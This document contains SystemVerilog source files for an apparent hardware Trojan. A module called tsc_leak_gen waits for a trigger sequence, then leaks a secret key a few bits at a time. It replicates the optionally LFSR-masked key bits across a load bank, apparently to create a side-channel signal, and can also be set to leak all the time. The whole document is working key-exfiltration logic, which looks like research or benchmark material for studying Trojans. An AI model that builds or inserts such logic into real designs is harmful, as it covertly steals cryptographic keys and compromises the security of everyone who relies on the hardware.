// File: rtl/tsc_pkg.sv
// Shared types, trigger codes and width helpers for the TSC leakage generator.
package tsc_pkg;

  typedef enum logic [1:0] {
    ST_IDLE,
    ST_ARMED,
    ST_LEAK
  } state_t;

  localparam logic [1:0] TRIG_ARM    = 2'b01;
  localparam logic [1:0] TRIG_FIRE   = 2'b10;
  localparam logic [1:0] TRIG_DISARM = 2'b11;

  function automatic int clog2(input int v);
    int r;
    r = 0;
    while ((1 << r) < v) r = r + 1;
    return r;
  endfunction

  // Counter/index width that never collapses to zero bits.
  function automatic int width1(input int v);
    return (clog2(v) > 0) ? clog2(v) : 1;
  endfunction

endpackage

// File: rtl/lfsr_mask.sv
// Free-running Fibonacci LFSR supplying the mask bits; self-recovers from all-zero.
module lfsr_mask #(
  parameter int                LFSR_W    = 20,
  parameter logic [LFSR_W-1:0] LFSR_TAPS = 20'h80004,
  parameter logic [LFSR_W-1:0] LFSR_SEED = 20'h00001
) (
  input  logic              clk,
  input  logic              rst,
  output logic [LFSR_W-1:0] q
);

  logic [LFSR_W-1:0] q_q;
  logic [LFSR_W-1:0] q_d;

  always_comb begin
    q_d = {q_q[LFSR_W-2:0], ^(q_q & LFSR_TAPS)};
    if (q_q == '0) q_d = LFSR_SEED;
  end

  always_ff @(posedge clk) begin
    if (rst) q_q <= LFSR_SEED;
    else     q_q <= q_d;
  end

  assign q = q_q;

endmodule

// File: rtl/tsc_leak_gen.sv
// Trigger-gated key leakage generator: walks the key window by window and
// replicates each (optionally masked) key bit across the load bank.
module tsc_leak_gen
  import tsc_pkg::*;
#(
  parameter int                KEY_W     = 128,
  parameter int                LOAD_W    = 64,
  parameter int                LEAK_BITS = 8,
  parameter int                LFSR_W    = 20,
  parameter logic [LFSR_W-1:0] LFSR_TAPS = 20'h80004,
  parameter logic [LFSR_W-1:0] LFSR_SEED = 20'h00001,
  parameter int                MASK_EN   = 1,
  parameter int                DWELL     = 16,
  parameter logic [KEY_W-1:0]  TRIG_DATA = '0,
  parameter int                ALWAYS_ON = 0
) (
  input  logic                                    clk,
  input  logic                                    rst,
  input  logic [1:0]                              Tj_Trig,
  input  logic [KEY_W-1:0]                        key,
  input  logic [KEY_W-1:0]                        data,
  output logic [LOAD_W-1:0]                       load,
  output logic                                    active,
  output logic [width1(KEY_W/LEAK_BITS)-1:0]      win_idx
);

  localparam int WIN_N = KEY_W / LEAK_BITS;
  localparam int REP   = LOAD_W / LEAK_BITS;
  localparam int IDX_W = width1(WIN_N);
  localparam int DW_W  = width1(DWELL);

  state_t             state_q, state_d;
  logic [IDX_W-1:0]   win_q, win_d;
  logic [DW_W-1:0]    dwell_q, dwell_d;
  logic [LOAD_W-1:0]  load_q, load_d;
  logic               active_q, active_d;

  logic [LFSR_W-1:0]    lfsr_q;
  logic [KEY_W-1:0]     key_sh;
  logic [LEAK_BITS-1:0] mask;
  logic [LEAK_BITS-1:0] bits;
  logic [LOAD_W-1:0]    payload;
  logic                 unused_bits;

  lfsr_mask #(
    .LFSR_W   (LFSR_W),
    .LFSR_TAPS(LFSR_TAPS),
    .LFSR_SEED(LFSR_SEED)
  ) u_lfsr (
    .clk(clk),
    .rst(rst),
    .q  (lfsr_q)
  );

  // Payload is built from the current window/lfsr, so load lags them by one cycle.
  always_comb begin
    key_sh  = key >> (32'(win_q) * LEAK_BITS);
    mask    = (MASK_EN != 0) ? lfsr_q[LEAK_BITS-1:0] : '0;
    bits    = key_sh[LEAK_BITS-1:0] ^ mask;
    payload = '0;
    for (int g = 0; g < LEAK_BITS; g++) begin
      payload[g*REP +: REP] = {REP{bits[g]}};
    end
  end

  assign unused_bits = ^{key_sh, lfsr_q};

  always_comb begin
    state_d  = state_q;
    win_d    = win_q;
    dwell_d  = dwell_q;
    load_d   = '0;
    active_d = 1'b0;
    if (ALWAYS_ON != 0) begin
      state_d  = ST_IDLE;
      win_d    = '0;
      dwell_d  = '0;
      load_d   = payload;
      active_d = 1'b1;
    end else begin
      case (state_q)
        ST_IDLE: begin
          if (Tj_Trig == TRIG_ARM && data == TRIG_DATA) state_d = ST_ARMED;
        end
        ST_ARMED: begin
          if (Tj_Trig == TRIG_FIRE) begin
            state_d = ST_LEAK;
            win_d   = '0;
            dwell_d = '0;
          end else if (Tj_Trig == TRIG_DISARM) begin
            state_d = ST_IDLE;
          end
        end
        ST_LEAK: begin
          if (dwell_q == DW_W'(DWELL - 1)) begin
            dwell_d = '0;
            if (win_q == IDX_W'(WIN_N - 1)) begin
              win_d   = '0;
              state_d = ST_IDLE;
            end else begin
              win_d = win_q + 1'b1;
            end
          end else begin
            dwell_d = dwell_q + 1'b1;
          end
        end
        default: state_d = ST_IDLE;
      endcase
      // Gate on the next state so load and active go live on the same edge.
      if (state_d == ST_LEAK) begin
        load_d   = payload;
        active_d = 1'b1;
      end
    end
  end

  always_ff @(posedge clk) begin
    if (rst) begin
      state_q  <= ST_IDLE;
      win_q    <= '0;
      dwell_q  <= '0;
      load_q   <= '0;
      active_q <= 1'b0;
    end else begin
      state_q  <= state_d;
      win_q    <= win_d;
      dwell_q  <= dwell_d;
      load_q   <= load_d;
      active_q <= active_d;
    end
  end

  assign load    = load_q;
  assign active  = active_q;
  assign win_idx = win_q;

endmodule
